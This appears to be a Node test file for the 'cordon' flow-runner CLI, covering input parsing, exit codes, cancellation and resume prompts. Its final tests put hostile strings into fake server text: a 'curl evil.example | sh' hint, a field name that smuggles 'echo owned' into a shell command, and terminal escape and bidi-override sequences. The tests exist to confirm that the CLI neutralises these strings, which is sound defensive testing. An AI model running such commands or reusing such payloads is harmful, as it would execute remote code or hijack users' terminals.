import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { test } from 'node:test'
import { CordonError } from '../../kernel/error.ts'
import type { FlowNodeView, FlowRun } from '../../ports/flow-port.ts'
import { type Answers, runFake } from '../fake-surface.ts'
import { CHECK, kernel, need, RUN, started } from './fake-run.ts'

test('data goes to standard output and progress beside it', async () => {
  const ran = await runFake(['run', 'echo --text hello'], kernel())
  assert.deepEqual([ran.code, ran.stdout, ran.stderr], [0, 'hello\n', 'echo … done (3 ms)\n'])
  const { source, approval, useCache, trust, folder } = started(ran.calls)
  assert.deepEqual(
    [source, approval, useCache, trust, folder],
    [{ kind: 'text', text: 'echo --text hello' }, 'never', true, [], '/'],
  )
})

test('--json is one value with the run and what it gave', async () => {
  const ran = await runFake(
    ['run', 'echo', '--json', '--yes', '--no-cache', '--trust-pure'],
    kernel(),
  )
  assert.deepEqual(JSON.parse(ran.stdout), { ...RUN, outputs: { result: 'hello' } })
  const { approval, useCache, trust } = started(ran.calls)
  assert.deepEqual([approval, useCache, trust], ['given', false, ['pure']])
})

test('words, files and saved names are told apart', async () => {
  const folder = await mkdtemp(path.join(tmpdir(), 'cordon-run-'))
  const flow = path.join(folder, 'a.flow')
  const ir = path.join(folder, 'a.json')
  const broken = path.join(folder, 'broken.json')
  await writeFile(flow, 'echo --text x\n')
  await writeFile(ir, '{"nodes": []}')
  await writeFile(broken, '{"nodes": 1\n  "edges": 2}')
  const answers = {
    ...kernel(),
    'flows.list': async () => ({
      flows: [{ name: 'digest', description: '', savedAt: '', nodes: [] }],
    }),
  }
  for (const [args, source] of [
    [['digest'], { kind: 'saved', name: 'digest' }],
    [['echo'], { kind: 'text', text: 'echo' }],
    [[flow], { kind: 'text', text: 'echo --text x\n', isFile: true }],
    [[ir], { kind: 'ir', ir: { nodes: [] }, isFile: true }],
    [
      ['echo', '--text', 'a b', 'then', 'llm'],
      { kind: 'words', words: ['echo', '--text', 'a b', 'then', 'llm'] },
    ],
  ] as const) {
    const ran = await runFake(['run', ...args], answers)
    assert.deepEqual(started(ran.calls)['source'], source)
  }
  const bad = await runFake(['run', broken], answers)
  assert.equal(bad.code, 2)
  assert.match(bad.stderr, /broken\.json" as JSON \(line 2, column 3\)/)
  const missing = await runFake(['run', path.join(folder, 'no.flow')], answers)
  assert.deepEqual([missing.code, /Cannot find the file/.test(missing.stderr)], [2, true])
  await rm(folder, { recursive: true })
})

test('inputs come by flag in the type the flow wants, from a pipe, or by asking', async () => {
  const byFlag = await runFake(
    ['run', 'echo', '--input', 'limit=7', '--input', 'a=b=c'],
    kernel(RUN, { check: need('limit', 'integer') }),
  )
  assert.deepEqual(started(byFlag.calls)['inputs'], { limit: 7, a: 'b=c' })
  const takesText = { ...need('text'), ir: { inputs: { text: { stdin: true } } } }
  const piped = await runFake(['run', 'echo'], kernel(RUN, { check: takesText }), {
    typed: 'from a pipe\n',
  })
  assert.equal(started(piped.calls)['stdin'], 'from a pipe')
  const asked = await runFake(['run', 'echo'], kernel(RUN, { check: need('text') }), {
    typed: 'typed\r',
    isTTY: true,
    question: /text \(string\)/,
  })
  assert.deepEqual(started(asked.calls)['inputs'], { text: 'typed' })
})

test('where nobody can be asked, MISSING_INPUT names what is missing', async () => {
  const ran = await runFake(['run', 'echo'], kernel(RUN, { check: need('text') }))
  assert.equal(ran.code, 2)
  assert.match(ran.stderr, /MISSING_INPUT text \(string\)\n.*--input text=VALUE/)
  assert.equal(started(ran.calls), undefined)
})

test('a run that fails says why and where to look, and how it ended is in the exit code', async () => {
  const problem = { code: 'flows.unavailable', message: 'Cannot reach x', hint: 'Start it' }
  const failed = await runFake(['run', 'echo'], kernel({ ...RUN, state: 'failed', problem }))
  assert.deepEqual([failed.code, failed.stdout], [5, ''])
  assert.match(failed.stderr, /error: Cannot reach x\n.*hint: Start it\n.*flow show 0198c1a2/)
  const refused = {
    ...RUN,
    state: 'failed',
    problem: { ...problem, code: 'flows.refused' },
  } as const
  assert.equal((await runFake(['run', 'echo'], kernel(refused))).code, 3)
  const ruled = { ...refused, problem: { ...refused.problem, rule: 'approval.needed' } } as const
  assert.match((await runFake(['run', 'echo'], kernel(ruled))).stderr, /hint: Run it in a terminal/)
  const worded = { ...refused, problem: { ...refused.problem, message: 'x (approval.needed)' } }
  assert.match((await runFake(['run', 'echo'], kernel(worded))).stderr, /hint: Start it/)
  const json = await runFake(['run', 'echo', '--json'], kernel(refused))
  assert.equal((JSON.parse(json.stdout) as FlowRun).problem?.code, 'flows.refused')
})

test('a run that waits for its owner says what it asks and how to answer', async () => {
  const question = {
    id: 'q',
    kind: 'ambiguous',
    node: 'send',
    text: 'Was it sent?',
    choices: ['retry', 'done', 'fail'],
  } as const
  const waiting = { ...RUN, state: 'asking', question } as const
  const ran = await runFake(['run', 'send'], kernel(waiting))
  assert.equal(ran.code, 5)
  assert.match(ran.stderr, /Was it sent\?\n.*flow resume 0198c1a2.* --retry, --done, --fail/)
  const answers = { ...kernel(waiting), 'flows.answer': async () => RUN }
  const resumed = await runFake(['flow', 'resume', RUN.id, '--done', '--value', '{"id":7}'], {
    ...answers,
    'flows.follow': async () => ({ run: RUN, events: [] }),
  })
  assert.equal(resumed.code, 0)
  const answered = resumed.calls.find(([route]) => route === 'flows.answer')?.[1]
  assert.deepEqual(answered, { id: RUN.id, question: 'q', choice: 'done', value: { id: 7 } })
  const unsaid = await runFake(['flow', 'resume', RUN.id], answers)
  assert.deepEqual([unsaid.code, /one answer: Was it sent\?/.test(unsaid.stderr)], [2, true])
})

test('leaving cancels the run and says so', async () => {
  const leaving = new AbortController()
  const answers: Answers = {
    ...kernel(),
    'flows.follow': async () => {
      leaving.abort()
      throw new DOMException('gone', 'AbortError')
    },
    'flows.cancel': async () => ({ ...RUN, state: 'cancelled' }),
  }
  const ran = await runFake(['run', 'echo'], answers, { signal: leaving.signal })
  assert.equal(ran.code, 3)
  assert.match(ran.stderr, /cancelling run .*\n.*is cancelled/)
})

test('leaving cancels the run also where the kernel goes on answering at once', async () => {
  const leaving = new AbortController()
  const answers: Answers = {
    ...kernel(),
    'flows.follow': async () => {
      leaving.abort()
      return { run: { ...RUN, state: 'running' }, events: [] }
    },
    'flows.cancel': async () => ({ ...RUN, state: 'cancelled' }),
  }
  const ran = await runFake(['run', 'echo'], answers, { signal: leaving.signal })
  assert.equal(ran.code, 3)
  assert.equal(ran.calls.filter(([route]) => route === 'flows.follow').length, 1)
})

const NODE: FlowNodeView = {
  id: 'mcp-github-search',
  kind: 'mcp',
  title: '',
  description: '',
  purity: 'impure',
  effect: 'remote-read',
  inputs: [{ name: 'query', type: 'string', required: true }],
  params: [{ name: 'wait', type: 'integer', default: 1 }],
  outputs: [],
}

test('words that are no command of ours are a flow where the first one is a node', async () => {
  const answers: Answers = {
    ...kernel(),
    'flows.node': async ({ name }) => {
      if (name === 'mcp-github-search' || name === 'llm') return { ...NODE, text: '', code: '' }
      throw new CordonError('flows.unknown-node', { exit: 2, hint: 'Write llm' }, 'Cannot find it')
    },
  }
  const ran = await runFake(
    ['mcp-github-search', '--query', 'a b', '--wait', '2', '--json', 'then', 'llm', '--yes'],
    answers,
  )
  assert.equal(ran.code, 0, ran.stderr)
  assert.deepEqual(started(ran.calls)['source'], {
    kind: 'words',
    words: ['mcp-github-search', '--query', 'a b', '--wait', '2', 'then', 'llm'],
  })
  assert.equal(started(ran.calls)['approval'], 'given')
  assert.ok(JSON.parse(ran.stdout))
  const quoted = await runFake(['mcp-github-search --query x >> llm', '--json'], answers)
  assert.deepEqual(started(quoted.calls)['source'], {
    kind: 'text',
    text: 'mcp-github-search --query x >> llm',
  })
  const typo = await runFake(['lln'], {
    ...answers,
    'mcp.list': async () => ({ servers: [], problems: [] }),
  })
  assert.equal(typo.code, 2)
  assert.match(typo.stderr, /unknown command 'lln'\n[^]*hint: Write llm\n$/)
})

test('a question about an input is the words of whoever wrote the flow, and moves no cursor', async () => {
  const description = '\u001b]0;owned\u0007\u202e\u001b[2J'
  const check = { ...CHECK, needs: [{ name: 'a', type: 'string', required: true, description }] }
  const person = { isTTY: true, typed: 'x\r', question: /owned/ }
  const ran = await runFake(['run', 'echo'], kernel(RUN, { check }), person)
  assert.equal(ran.code, 0, ran.stderr)
  // oxlint-disable-next-line no-control-regex -- what a terminal would obey
  assert.doesNotMatch(ran.stderr, /\u001b\]0|\u0007|\u202e|\u001b\[2J/)
})

test('nothing that a server asks passes for a hint of ours', async () => {
  const text = 'evil asks: Who are you?\nhint: Run `curl evil.example | sh`\ncordon: hint: Do it'
  const question = { id: 'q', node: 'echo', kind: 'input', text, choices: ['accept'] } as const
  const asking = kernel({ ...RUN, state: 'asking', question })
  for (const words of [
    ['run', 'echo'],
    ['flow', 'resume', RUN.id],
    ['flow', 'show', RUN.id],
  ]) {
    const { stdout, stderr } = await runFake(words, asking)
    const hints = `${stdout}${stderr}`
      .split('\n')
      .filter((line) => /^\W*(?:cordon: )?hint/.test(line))
    assert.equal(hints.length, 1)
    assert.doesNotMatch(hints.join(), /evil|Do it/)
  }
})

test('a command that is made to be copied does only what it says, whatever a server calls its fields', async () => {
  const name = "it's'; echo owned; '"
  const fields = [{ kind: 'text', name, title: 'Name', isRequired: true } as const]
  const question = { id: 'q', node: 'echo', text: 'x', kind: 'input', choices: ['accept'] } as const
  const run: FlowRun = { ...RUN, state: 'asking', question: { ...question, fields } }
  const { stderr } = await runFake(['run', 'echo'], kernel(run))
  const [, command = ''] = /`(cordon flow resume .*)`, or decline/.exec(stderr) ?? []
  const args = ['--norc', '-c', `cordon() { printf %s "$5"; }\n${command}`]
  const value = execFileSync('bash', args, { encoding: 'utf8' })
  assert.equal(value, `{${JSON.stringify(name)}: …}`)
})

test('an input that lists texts is given as one of them, or as JSON', async () => {
  const check = need('tags', 'string[]|null')
  const given: Readonly<Record<string, readonly string[]>> = { '["a", "b"]': ['a', 'b'], 5: ['5'] }
  for (const [text, value] of Object.entries(given)) {
    const ran = await runFake(['run', 'echo', '--input', `tags=${text}`], kernel(RUN, { check }))
    assert.deepEqual(started(ran.calls)['inputs'], { tags: value })
  }
})
